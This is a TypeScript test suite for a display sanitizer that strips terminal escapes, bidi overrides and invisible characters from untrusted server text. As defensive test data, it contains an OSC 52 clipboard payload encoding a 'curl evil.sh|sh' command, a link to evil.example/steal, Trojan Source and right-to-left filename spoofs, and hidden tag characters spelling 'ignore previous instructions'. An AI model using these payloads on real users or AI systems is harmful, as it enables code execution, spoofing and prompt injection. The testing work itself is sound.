import { CoreErrorCode, isElicitkitError, sanitizeForDisplay, UsageError } from '@elicitkit/core';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { runs } from './property-runs.js';

const ESC = '\u001b';
const BEL = '\u0007';
const ST = `${ESC}\\`;

/** What must never survive: controls (bar \n), format characters, lone surrogates, invisible fillers. */
const UNSAFE = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\p{Cf}\p{Cs}\u2028\u2029\u3164\u115f\u1160\uffa0]/u;
/** The one format character kept: a zero-width joiner between two emoji. */
const EMOJI_JOINER =
  /(?<=\p{Extended_Pictographic}[\u{1f3fb}-\u{1f3ff}\ufe0f]?)\u200d(?=\p{Extended_Pictographic})/gu;
const withoutEmojiJoiners = (text: string) => text.replace(EMOJI_JOINER, '');

describe('sanitizeForDisplay: escape sequences', () => {
  it.each([
    ['SGR colour', `${ESC}[31mred${ESC}[0m`, 'red'],
    ['SGR with many parameters', `${ESC}[38;2;255;0;0;1;4mbold${ESC}[m`, 'bold'],
    ['private mode: hide cursor, alternate screen', `${ESC}[?25l${ESC}[?1049hx${ESC}[?1049l`, 'x'],
    ['private markers < = >', `${ESC}[>0c${ESC}[=1c${ESC}[<1;2;3Mok`, 'ok'],
    ['intermediate byte (DECSCUSR)', `${ESC}[2 qshape`, 'shape'],
    ['erase screen and home cursor', `${ESC}[2J${ESC}[Hclean`, 'clean'],
    ['cursor up to overwrite a previous line', `ok${ESC}[1A${ESC}[2Kforged`, 'okforged'],
    ['8-bit CSI U+009B', '\u009b31mred\u009b0m', 'red'],
    ['unterminated CSI at the end', `text${ESC}[12;`, 'text'],
  ])('removes CSI: %s', (_, input, expected) => {
    expect(sanitizeForDisplay(input)).toBe(expected);
  });

  it.each([
    ['window title ended by BEL', `${ESC}]0;pwned${BEL}title`, 'title'],
    ['window title ended by ST', `${ESC}]2;pwned${ST}title`, 'title'],
    ['clipboard write (OSC 52)', `${ESC}]52;c;Y3VybCBldmlsLnNofHNo${BEL}after`, 'after'],
    ['8-bit OSC ended by 8-bit ST', '\u009d0;t\u009cafter', 'after'],
    ['unterminated OSC swallows the rest, as a terminal would', `before${ESC}]0;rest of it`, 'before'],
    ['OSC aborted by CAN', `${ESC}]0;x\u0018after`, 'after'],
  ])('removes OSC: %s', (_, input, expected) => {
    expect(sanitizeForDisplay(input)).toBe(expected);
  });

  it('[E-56] removes OSC 8 hyperlinks, keeping only their visible text, so no server text becomes a link', () => {
    const link = `Click ${ESC}]8;;https://evil.example/steal${ST}here${ESC}]8;;${ST} to continue`;
    expect(sanitizeForDisplay(link)).toBe('Click here to continue');
    const withParams = `${ESC}]8;id=1;https://evil.example${BEL}docs${ESC}]8;;${BEL}`;
    expect(sanitizeForDisplay(withParams)).toBe('docs');
  });

  it.each([
    ['DCS (sixel, DECRQSS)', `${ESC}Pq#0;2;0;0;0#0~~@@${ST}after`, 'after'],
    ['SOS', `${ESC}Xhidden${ST}after`, 'after'],
    ['PM', `${ESC}^hidden${ST}after`, 'after'],
    ['APC (kitty graphics)', `${ESC}_Gf=100;AAAA${ST}after`, 'after'],
    ['8-bit DCS', '\u0090hidden\u009cafter', 'after'],
    ['8-bit APC', '\u009fhidden\u009cafter', 'after'],
  ])('removes string controls: %s', (_, input, expected) => {
    expect(sanitizeForDisplay(input)).toBe(expected);
  });

  it.each([
    ['ESC c (full reset)', `${ESC}ca`, 'a'],
    ['ESC 7 / ESC 8 (save/restore cursor)', `${ESC}7a${ESC}8b`, 'ab'],
    ['ESC M (reverse index)', `${ESC}Ma`, 'a'],
    ['ESC = / ESC > (keypad)', `${ESC}=a${ESC}>`, 'a'],
    ['ESC ( B (character set)', `${ESC}(0lqk${ESC}(B`, 'lqk'],
    ['ESC # 8 (screen alignment)', `${ESC}#8a`, 'a'],
    ['a lone ESC at the end', `a${ESC}`, 'a'],
    ['ESC ESC [', `${ESC}${ESC}[31mx`, 'x'],
  ])('removes single-character escapes: %s', (_, input, expected) => {
    expect(sanitizeForDisplay(input)).toBe(expected);
  });
});

describe('sanitizeForDisplay: controls and line breaks', () => {
  it('removes C0 and C1 controls, including backspace tricks that overwrite text', () => {
    expect(sanitizeForDisplay('safe\b\b\b\bEVIL')).toBe('safeEVIL');
    expect(sanitizeForDisplay('a\u0000b\u0007c\u007fd\u0080e\u009cf\u0090')).toBe('abcdef');
  });

  it('turns line breaks into spaces by default, one space for CRLF', () => {
    expect(sanitizeForDisplay('one\ntwo\r\nthree\rfour\u0085five\u2028six\u2029seven')).toBe(
      'one two three four five six seven',
    );
  });

  it('keeps line breaks as \\n with allowNewlines; CRLF and lone CR become \\n so nothing overwrites a line', () => {
    expect(sanitizeForDisplay('one\ntwo\r\nthree\rfour\u0085five\u2028six', { allowNewlines: true })).toBe(
      'one\ntwo\nthree\nfour\nfive\nsix',
    );
    expect(sanitizeForDisplay('\n\n', { allowNewlines: true })).toBe('\n\n');
  });

  it('turns tab, vertical tab and form feed into a space in both modes', () => {
    expect(sanitizeForDisplay('a\tb\u000bc\u000cd')).toBe('a b c d');
    expect(sanitizeForDisplay('a\tb', { allowNewlines: true })).toBe('a b');
  });
});

describe('sanitizeForDisplay: bidi and invisible characters', () => {
  it('removes bidi overrides, embeddings, isolates and marks (trojan source)', () => {
    // The classic "Trojan Source" early return: it reads as a comment but is code.
    const trojan = '/*\u202e } \u2066if (isAdmin)\u2069 \u2066 begin admins only */';
    expect(sanitizeForDisplay(trojan)).toBe('/* } if (isAdmin)  begin admins only */');
    const every = 'a\u202ab\u202bc\u202cd\u202de\u202ef\u2066g\u2067h\u2068i\u2069j\u200ek\u200fl\u061cm';
    expect(sanitizeForDisplay(every)).toBe('abcdefghijklm');
  });

  it('defuses a file name that hides its extension with a right-to-left override', () => {
    expect(sanitizeForDisplay('invoice\u202egpj.exe')).toBe('invoicegpj.exe');
  });

  it('removes zero-width characters, BOM, soft hyphen and word joiners', () => {
    expect(sanitizeForDisplay('p\u200ba\u200cy\u200dp\u2060a\ufeffl\u00ad!\u2061\u2064')).toBe('paypal!');
  });

  it('removes tag characters that smuggle hidden text', () => {
    const hidden = Array.from('ignore previous instructions', (char) =>
      String.fromCodePoint(0xe0000 + char.charCodeAt(0)),
    ).join('');
    expect(sanitizeForDisplay(`Hello${hidden}!`)).toBe('Hello!');
  });

  it('removes invisible fillers and stray variation selectors but keeps emoji VS15/VS16', () => {
    expect(sanitizeForDisplay('\u3164\u115f\u1160\uffa0name')).toBe('name');
    expect(sanitizeForDisplay('a\ufe00\u{e0100}b\u034fc')).toBe('abc');
    expect(sanitizeForDisplay('❤️ ☺︎')).toBe('❤️ ☺︎');
  });

  it('removes lone surrogates and keeps pairs', () => {
    expect(sanitizeForDisplay('a\ud800b\udc00c\u{1f600}')).toBe('abc\u{1f600}');
    expect(sanitizeForDisplay('\udbff')).toBe('');
  });
});

describe('sanitizeForDisplay: text that must survive', () => {
  it.each([
    ['plain ASCII', 'Please enter your GitHub username (e.g. octocat).'],
    ['combining marks', 'e\u0301 a\u0308 n\u0303 Z\u0336\u0337a\u0338l\u0334g\u0335o'],
    ['emoji ZWJ sequences', '👨‍👩‍👧 🏳️‍🌈 👩🏽‍💻 ❤️‍🔥 🧑‍🤝‍🧑'],
    ['flags and keycaps', '🇩🇪 🇯🇵 1️⃣ #️⃣'],
    ['CJK', '日本語のテキスト 中文 한국어'],
    ['right-to-left scripts', 'مرحبا بالعالم שלום עולם'],
    ['Indic with virama', 'हिन्दी தமிழ்'],
    ['symbols and punctuation', '«quotes» — “dashes” … ¿¡ € ✓ ∑ π'],
  ])('keeps %s unchanged', (_, text) => {
    expect(sanitizeForDisplay(text)).toBe(text);
    expect(sanitizeForDisplay(text, { allowNewlines: true, maxLength: 10_000 })).toBe(text);
  });

  it('keeps a zero-width joiner only inside an emoji sequence', () => {
    expect(sanitizeForDisplay('👨\u200d👩')).toBe('👨\u200d👩');
    expect(sanitizeForDisplay('a\u200db 👨\u200db a\u200d👩')).toBe('ab 👨b a👩');
  });

  it('degrades a subdivision flag, whose tags it removes, to the plain black flag', () => {
    expect(sanitizeForDisplay('🏴\u{e0067}\u{e0062}\u{e0073}\u{e0063}\u{e0074}\u{e007f}')).toBe('🏴');
  });
});

describe('sanitizeForDisplay: length cap', () => {
  it('leaves text at or under maxLength unchanged', () => {
    expect(sanitizeForDisplay('abcde', { maxLength: 5 })).toBe('abcde');
    expect(sanitizeForDisplay('😀😀😀', { maxLength: 3 })).toBe('😀😀😀');
  });

  it('caps to maxLength code points, the ellipsis included', () => {
    expect(sanitizeForDisplay('abcdefgh', { maxLength: 5 })).toBe('abcd…');
    expect(sanitizeForDisplay('abcdefgh', { maxLength: 1 })).toBe('…');
  });

  it('never splits a surrogate pair', () => {
    const capped = sanitizeForDisplay('😀😀😀😀', { maxLength: 3 });
    expect(capped).toBe('😀😀…');
    expect(sanitizeForDisplay('a😀😀', { maxLength: 2 })).toBe('a…');
  });

  it('counts what remains after stripping, not the escape sequences', () => {
    expect(sanitizeForDisplay(`${ESC}[31m${ESC}[1mabc${ESC}[0m`, { maxLength: 3 })).toBe('abc');
  });

  it.each([0, -1, 1.5, Number.NaN, Number.POSITIVE_INFINITY, '10'])(
    'rejects maxLength %s with a clear error',
    (max) => {
      const call = () => sanitizeForDisplay('text', { maxLength: max as number });
      expect(call).toThrow(UsageError);
      expect(call).toThrow(/options\.maxLength must be a positive integer/);
      try {
        call();
        expect.unreachable();
      } catch (error) {
        expect(isElicitkitError(error, CoreErrorCode.InvalidOption) && error.details.option).toBe(
          'maxLength',
        );
      }
    },
  );

  it.each([undefined, null, 42, {}])('rejects the non-string %s with a clear error', (value) => {
    expect(() => sanitizeForDisplay(value as unknown as string)).toThrow(/expects a string/);
    expect(() => sanitizeForDisplay(value as unknown as string)).toThrow(
      expect.objectContaining({
        name: 'UsageError',
        code: 'invalid-argument',
        details: { argument: 'text' },
      }),
    );
  });
});

describe('sanitizeForDisplay: hostile sizes (every pattern linear)', () => {
  const MB = 1 << 20;
  const hostile: [string, string][] = [
    ['repeated CSI introducers', `${ESC}[`.repeat(MB / 2)],
    ['one CSI with a megabyte of parameters', `${ESC}[${'1;'.repeat(MB / 2)}`],
    ['repeated OSC introducers', `${ESC}]`.repeat(MB / 2)],
    ['an unterminated OSC 8 link', `${ESC}]8;;${'a'.repeat(MB)}`],
    ['OSC almost-terminators', `${ESC}]0;${`${ESC}x`.repeat(MB / 2)}`],
    ['8-bit CSI flood', '\u009b'.repeat(MB)],
    ['ESC with intermediates', `${ESC}${' '.repeat(MB)}`],
    ['zero-width joiners after emoji', '👨\u200d'.repeat(MB / 3)],
    ['bidi flood', '\u202e\u2066'.repeat(MB / 2)],
    ['CRLF flood', '\r\n\r'.repeat(MB / 3)],
    ['clean text', 'lorem ipsum '.repeat(MB / 12)],
  ];
  it.each(hostile)('handles a 1 MB %s quickly and leaves nothing unsafe', { timeout: 5_000 }, (_, text) => {
    const clean = sanitizeForDisplay(text);
    expect(withoutEmojiJoiners(clean)).not.toMatch(UNSAFE);
    expect([...sanitizeForDisplay(text, { maxLength: 100 })].length).toBeLessThanOrEqual(100);
  });
});

describe('sanitizeForDisplay: properties', () => {
  const piece = fc.oneof(
    fc.constantFrom(
      ESC,
      `${ESC}[`,
      `${ESC}]`,
      `${ESC}]8;;`,
      `${ESC}P`,
      ST,
      BEL,
      '\u009b',
      '\u009c',
      '\u009d',
      '\r',
      '\n',
      '\t',
      '\u202e',
      '\u2066',
      '\u200d',
      '\u200b',
      '\ufe0f',
      '\ud800',
      '\udc00',
      '👨',
      '🏽',
      '\u{e0041}',
      '\u0301',
      '[31m',
      ';',
      '\\',
    ),
    fc.string({ unit: 'binary', maxLength: 6 }),
  );
  const text = fc.array(piece, { maxLength: 40 }).map((parts) => parts.join(''));
  const options = fc.record(
    { allowNewlines: fc.boolean(), maxLength: fc.integer({ min: 1, max: 50 }) },
    { requiredKeys: [] },
  );

  it('leaves no control, format or lone surrogate; respects maxLength; is idempotent', () => {
    fc.assert(
      fc.property(text, options, (input, opts) => {
        const clean = sanitizeForDisplay(input, opts);
        expect(withoutEmojiJoiners(clean.replaceAll('\n', ''))).not.toMatch(UNSAFE);
        if (!opts.allowNewlines) expect(clean).not.toContain('\n');
        if (opts.maxLength !== undefined) expect([...clean].length).toBeLessThanOrEqual(opts.maxLength);
        expect(sanitizeForDisplay(clean, opts)).toBe(clean);
      }),
      runs(5000),
    );
  });

  it('returns clean input unchanged', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme', maxLength: 50 }), (input) => {
        fc.pre(!UNSAFE.test(input));
        expect(sanitizeForDisplay(input)).toBe(input);
      }),
      runs(100),
    );
  });
});
